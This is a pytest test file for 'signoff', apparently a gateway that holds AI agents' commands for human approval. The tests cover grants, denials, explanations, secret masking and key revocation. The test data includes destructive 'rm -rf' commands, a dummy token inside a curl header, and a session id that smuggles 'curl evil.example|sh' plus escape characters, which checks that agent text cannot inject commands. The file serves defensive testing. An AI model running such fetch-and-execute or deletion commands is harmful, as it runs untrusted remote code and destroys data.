"""`signoff check --session` and `signoff why` ask the running gateway."""

from __future__ import annotations

import asyncio
import re
import socket
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from tests.unit.cli.front import Front
from tests.unit.server.world import World, world_on

from signoff.cli.saying import said
from signoff.errors import (
    GrantNotFound,
    KeyNotFound,
    NotFound,
    RequestNotFound,
    SessionNotFound,
    SignoffError,
    TurnNotFound,
    Unauthenticated,
)

RM = {"kind": "command", "command": "rm -rf build"}


@pytest.fixture
async def served(front: Front) -> AsyncIterator[World]:
    """A gateway on the local socket of the configuration, whose path must be short."""
    with tempfile.TemporaryDirectory(prefix="so-") as folder:
        state = Path(folder) / "state"
        front.write("signoff.toml", f'[gateway]\nstate_dir = "{state}"\n')
        async with world_on("memory://", state_dir=state) as world:
            yield world


async def told(front: Front, *arguments: str, code: int = 0) -> str:
    """A command, run while the gateway's loop goes on."""
    return await asyncio.to_thread(lambda: front(*arguments, code=code))


async def test_grants_of_the_session_count(front: Front, served: World) -> None:
    agent, approver = await served.pair()
    row = await agent.ask(action={**RM, "cwd": str(Path.cwd())})
    assert "Decided by the rung person" in await told(front, "check", "--session", "s1", "rm -rf dist")
    await approver("POST", f"/v1/approvals/{row['request_id']}/decision", {"choice": "session"})
    out = await told(front, "check", "--session", "s1", "--explain", "rm -rf dist")
    assert out.startswith("allow (high)")
    assert "grants     Covered by " in out
    found: Any = await asyncio.to_thread(lambda: front.json("check", "--session", "s1", "rm -rf dist"))
    assert (found["verdict"], found["rung"], len(found["grant_ids"])) == ("allow", "grants", 1)
    assert "ask (high)" in await told(front, "check", "rm -rf dist")


async def test_a_denial_counts_for_this_machine_unless_another_is_named(front: Front, served: World) -> None:
    agent, approver = await served.pair()
    row = await agent.ask(action={**RM, "cwd": str(Path.cwd())}, host=socket.gethostname())
    await approver("POST", f"/v1/approvals/{row['request_id']}/decision", {"choice": "deny"})
    out = await told(front, "check", "--session", "s1", "rm -rf build")
    assert "Decided by the rung denied" in out
    assert row["short_id"] in out
    for host in ("elsewhere", ""):
        out = await told(front, "check", "--session", "s1", "--host", host, "rm -rf build")
        assert "Decided by the rung person" in out


async def test_a_session_that_is_not_there(front: Front, served: World) -> None:
    assert "session" in await told(front, "check", "--session", "none", "ls", code=1)


async def test_why_of_a_request(front: Front, served: World) -> None:
    agent, _ = await served.pair()
    row = await agent.ask(action={"kind": "command", "command": "sudo rm -rf build"})
    lines = (await told(front, "why", row["short_id"].lower())).splitlines()
    assert lines[0].startswith(f"{row['short_id']} (high): Runs with the administrator's rights, and deletes folders ")
    assert lines[0].endswith(" (rule privilege.root, delete.recursive)")
    assert "  1.1 rm -rf build" in lines
    assert "    ask delete.recursive: deletes folders and everything in them" in lines
    assert lines[-1] == "Decided by the rung person."
    found: Any = await asyncio.to_thread(lambda: front.json("why", row["request_id"]))
    assert found["rung"] == "person"
    assert await told(front, "why", "7Q2MK", code=1)


async def test_the_end_of_a_line_is_shown_as_one(front: Front, served: World) -> None:
    agent, _ = await served.pair()
    row = await agent.ask(action={**RM, "command": 'rm -rf "a\nb"'})
    assert "1 rm -rf 'a ⏎ b'" in (await told(front, "why", row["short_id"])).splitlines()
    assert 'rm -rf "a ⏎ b"' in await told(front, "pending")


async def test_a_mask_is_told_once_by_why_and_pending(front: Front, served: World) -> None:
    agent, _ = await served.pair()
    row = await agent.ask(
        action={**RM, "command": "rm -rf build; curl -H 'X-Key: ghp_0123456789abcdefghijABCDEFGHIJ012345' x"}
    )
    for words in (("why", row["short_id"]), ("pending",)):
        out = await told(front, *words)
        assert "X-Key: gh⟨36 masked⟩45" in out
        assert "U+27E8" not in out


async def test_why_says_what_was_answered(front: Front, served: World) -> None:
    agent, approver = await served.pair()
    row = await agent.ask(action=RM)
    assert "answer" in (await agent("GET", f"/v1/approvals/{row['request_id']}/why")).body
    decision = {"choice": "deny", "reason": "keep the build"}
    await approver("POST", f"/v1/approvals/{row['request_id']}/decision", decision)
    lines = (await told(front, "why", row["short_id"])).splitlines()
    assert lines[-2:] == ["Decided by the rung person.", "Denied by ann, not run: “keep the build”."]
    row = await agent.ask(action=RM)
    assert (await agent("GET", f"/v1/approvals/{row['request_id']}/why")).body["answer"] != ""  # denied a moment ago


async def test_a_page_is_approved_by_whoever_says_that_they_open_it(front: Front, served: World) -> None:
    agent, _ = await served.pair()
    page = "https://auth.example.com/authorize?client_id=signoff&state=ghp_0123456789abcdefghijABCDEFGHIJ012345"
    row = await agent.ask(action={"kind": "elicitation", "server": "jira", "message": "Please log in.", "url": page})
    short = row["short_id"]
    assert "Please log in. (a page to open: https://auth.example.com/authorize?" in await told(front, "pending")
    for choice in ("once", "accept"):
        out = await told(front, "approve", short, "--choice", choice, code=2)
        assert f"{short} asks you to open {page}. Approving it says that you do. Open it, then type:" in out
        assert out.rstrip().endswith(f"signoff approve {short} --opened")
    assert short in await told(front, "pending")
    assert (await told(front, "approve", short, "--opened")).startswith(f"{short}: ")
    assert "had already ended, nothing was changed" in await told(front, "approve", short, code=1)
    declined = await agent.ask(action={"kind": "elicitation", "server": "jira", "message": "Once more.", "url": page})
    assert (await told(front, "deny", declined["short_id"])).startswith(f"{declined['short_id']}: ")


async def test_whoever_revokes_an_agents_last_key_is_told_of_its_open_questions(front: Front, served: World) -> None:
    agent, _ = await served.pair()
    await agent.ask()
    await agent.ask(action={**RM, "command": "rm -rf dist"})
    listed: Any = await asyncio.to_thread(lambda: front.json("key", "list"))
    [first] = [row["id"] for row in listed["data"] if row["scope"] == "agent"]
    second = (await asyncio.to_thread(lambda: front.json("key", "create", "--scope", "agent", "--agent", "builder")))[
        "id"
    ]
    assert await told(front, "key", "revoke", first) == f"{first} is revoked.\n"
    assert await told(front, "key", "revoke", second) == (
        f"{second} is revoked.\n"
        "Questions of agent builder that still wait: 2. It has no key now, so nothing comes of their answers until it "
        "gets one. Withdraw them with `signoff stop s1`.\n"
    )
    assert "2 questions withdrawn" in await told(front, "stop", "s1")
    assert await told(front, "key", "revoke", second) == f"{second} is revoked.\n"


async def test_the_words_of_an_agent_reach_no_command_to_copy(front: Front, served: World) -> None:
    agent, approver = await served.pair()
    odd = ["s1`; curl evil.example|sh; \x9b31m\u202eabc", "--json", "a b"]
    for session in (*odd, "plain-1"):
        await agent("PUT", f"/v1/sessions/{quote(session, safe='')}", {"kind": "api"})
        await approver("PUT", f"/v1/sessions/{quote(session, safe='')}/notifiers/desk")
        await agent.ask(session=session)
    listed: Any = await asyncio.to_thread(lambda: front.json("key", "list"))
    [first] = [row["id"] for row in listed["data"] if row["scope"] == "agent"]
    assert (await told(front, "key", "revoke", first)).endswith(
        " Withdraw them with `signoff stop plain-1`, `signoff stop SESSION` for those with other ids in "
        "`signoff pending --json`.\n"
    )


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("approve", "NOPE1"), "No question with this id is known here. `signoff pending` lists"),
        (("why", "NOPE1"), "No question with this id is known here."),
        (("yolo", "--session", "nosuch"), "No session with this id is known here."),
        (("stop", "nosuch"), "No session with this id is known here."),
        (("revoke", "NOPE1"), "No standing permission with this id is in force here. `signoff grants` lists them."),
        (("key", "revoke", "NOPE1"), "No API key with this id is known here. `signoff key list` lists them."),
        (("check", "--session", "nosuch", "ls"), "No session with this id is known here."),
    ],
)
async def test_what_is_not_there_is_told_in_words_for_a_terminal(
    front: Front, served: World, arguments: tuple[str, ...], says: str
) -> None:
    out = await told(front, *arguments, code=1)
    assert says in out
    assert not re.search(r"/v1/|\b(?:GET|PUT|POST|DELETE) |Bearer", out)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("commands = [", "is not TOML, so nothing in it counts"),
        ("commands = [1]\n", "entry 1 is not a text and admits nothing"),
        ('comands = ["ls"]\n', "`comands` is not a list of this file"),
    ],
)
async def test_grants_warn_of_a_file_that_admits_less_than_it_seems_to(
    front: Front, served: World, text: str, says: str
) -> None:
    assert served.bound.socket is not None
    file = served.bound.socket.parent / "allowlist.toml"
    assert "signoff:" not in await told(front, "grants")
    file.write_text(text)
    out = await told(front, "grants")
    assert says in out
    assert str(file) in out
    other = served.bound.socket.parent / "profiles" / "second" / "allowlist.toml"
    assert "signoff:" not in await told(front, "grants", "--profile", "second")
    other.parent.mkdir(parents=True)
    other.write_text(text)
    assert str(other) in await told(front, "grants", "--profile", "second")


@pytest.mark.parametrize(
    "kind", [RequestNotFound, SessionNotFound, TurnNotFound, GrantNotFound, KeyNotFound, Unauthenticated]
)
def test_an_error_without_words_of_its_own_has_those_of_a_terminal(kind: type[SignoffError]) -> None:
    assert not re.search(r"/v1/|\b(?:GET|PUT|POST|DELETE) |Bearer", said(kind()))
    assert said(kind("Say this.")) == "Say this."
    assert said(NotFound()) == NotFound().message
